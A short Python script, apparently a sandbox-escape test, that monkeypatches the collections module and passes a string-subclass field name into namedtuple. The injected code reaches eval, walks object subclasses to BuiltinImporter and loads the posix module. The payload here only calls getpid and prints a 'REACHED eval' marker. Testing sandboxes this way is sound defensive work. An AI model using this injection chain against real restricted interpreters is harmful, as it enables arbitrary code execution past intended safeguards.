# The same with a module that `from` brought.
from typing import collections as c
class Text(str):
    def isidentifier(self):
        return True
    def startswith(self, *rest):
        return False
c.type = lambda x: str
c.map = lambda f, xs: list(xs)
walk = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]"
try:
    c.namedtuple("T", [Text("a: 0, {}[" + walk + ".load_module('posix').getpid()] #")])
except KeyError as error:
    print("REACHED eval", error.args[0])
